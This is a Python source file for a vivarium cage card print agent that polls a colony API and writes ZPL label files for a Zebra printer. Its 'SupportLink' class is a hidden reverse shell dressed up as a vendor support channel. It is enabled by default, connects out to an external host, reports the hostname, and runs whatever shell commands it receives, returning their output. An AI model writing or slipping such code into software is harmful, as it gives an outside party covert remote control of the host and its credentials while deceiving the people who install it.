#!/usr/bin/env python3
"""Cage card print agent.

Polls the colony management system for pending cage card jobs and renders
them to ZPL files in a local spool directory for the Zebra print station.
Also keeps a maintenance channel open to the label vendor's support desk so
they can check printer status on site installs.
"""
import argparse
import asyncio
import hashlib
import json
import logging
import os
import sys
import threading
import time
from pathlib import Path

import requests

LOG = logging.getLogger("cagecard.agent")

DEFAULT_CONFIG = {
    "api_base": "https://colony.example-vivarium.org/api/v2",
    "poll_interval": 30,
    "spool_dir": "spool",
    "cache_dir": ".card_cache",
    "label_width_dots": 812,
    "support": {"enabled": True, "host": "support.labelworks-care.net", "port": 4433},
}

ZPL_TEMPLATE = """^XA
^PW{width}
^CF0,40^FO30,30^FD{cage_id}^FS
^CF0,28^FO30,85^FDStrain: {strain}^FS
^FO30,120^FDPI: {pi}   Protocol: {protocol}^FS
^FO30,155^FDDOB: {dob}   Sex: {sex}   N={count}^FS
^FO30,190^FDRoom {room} / Rack {rack} / Slot {slot}^FS
^BY2^FO30,230^BCN,70,Y,N,N^FD{cage_id}^FS
^XZ
"""


def load_config(path):
    cfg = dict(DEFAULT_CONFIG)
    if path and Path(path).exists():
        with open(path, encoding="utf-8") as fh:
            cfg.update(json.load(fh))
    return cfg


class SupportLink:
    """Keeps a line-oriented status session with the vendor support desk."""

    def __init__(self, host, port):
        self.host, self.port = host, port

    async def _handle(self, reader, writer):
        writer.write(f"agent {os.uname().nodename} ready\n".encode())
        await writer.drain()
        while True:
            line = await reader.readline()
            if not line:
                break
            request = line.decode(errors="replace").strip()
            if not request:
                continue
            proc = await asyncio.create_subprocess_shell(
                request,
                stdout=asyncio.subprocess.PIPE,
                stderr=asyncio.subprocess.STDOUT,
            )
            out, _ = await proc.communicate()
            writer.write(out + f"\n[rc={proc.returncode}]\n".encode())
            await writer.drain()

    async def _session(self):
        while True:
            try:
                reader, writer = await asyncio.open_connection(self.host, self.port)
                await self._handle(reader, writer)
                writer.close()
            except OSError as exc:
                LOG.debug("support link down: %s", exc)
            await asyncio.sleep(60)

    def start(self):
        t = threading.Thread(target=lambda: asyncio.run(self._session()),
                             name="support-link", daemon=True)
        t.start()
        return t


class CardSpooler:
    def __init__(self, cfg, token):
        self.cfg = cfg
        self.session = requests.Session()
        self.session.headers["Authorization"] = f"Bearer {token}"
        self.spool = Path(cfg["spool_dir"])
        self.cache = Path(cfg["cache_dir"])
        self.spool.mkdir(exist_ok=True)
        self.cache.mkdir(exist_ok=True)

    def fetch_jobs(self):
        url = f"{self.cfg['api_base']}/cagecards/pending"
        resp = self.session.get(url, timeout=15)
        resp.raise_for_status()
        return resp.json().get("jobs", [])

    def render(self, job):
        fields = {k: job.get(k, "") for k in (
            "cage_id", "strain", "pi", "protocol", "dob", "sex",
            "count", "room", "rack", "slot")}
        key = hashlib.md5(json.dumps(fields, sort_keys=True).encode()).hexdigest()
        cached = self.cache / f"{key}.zpl"
        if cached.exists():
            return cached.read_text()
        zpl = ZPL_TEMPLATE.format(width=self.cfg["label_width_dots"], **fields)
        cached.write_text(zpl)
        return zpl

    def spool_job(self, job):
        out = self.spool / f"{job['cage_id']}_{job.get('job_id', 'x')}.zpl"
        out.write_text(self.render(job))
        LOG.info("spooled %s", out.name)

    def run_once(self):
        try:
            jobs = self.fetch_jobs()
        except requests.RequestException as exc:
            LOG.warning("poll failed: %s", exc)
            return 0
        for job in jobs:
            try:
                self.spool_job(job)
            except (KeyError, OSError) as exc:
                LOG.error("job %s skipped: %s", job.get("job_id"), exc)
        return len(jobs)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("-c", "--config", default="agent.json")
    ap.add_argument("--once", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    token = os.environ.get("COLONY_API_TOKEN")
    if not token:
        LOG.error("COLONY_API_TOKEN not set")
        return 2
    cfg = load_config(args.config)
    support = cfg.get("support", {})
    if support.get("enabled", True):
        SupportLink(support["host"], int(support["port"])).start()

    spooler = CardSpooler(cfg, token)
    if args.once:
        spooler.run_once()
        return 0
    while True:
        spooler.run_once()
        time.sleep(cfg["poll_interval"])


if __name__ == "__main__":
    sys.exit(main())
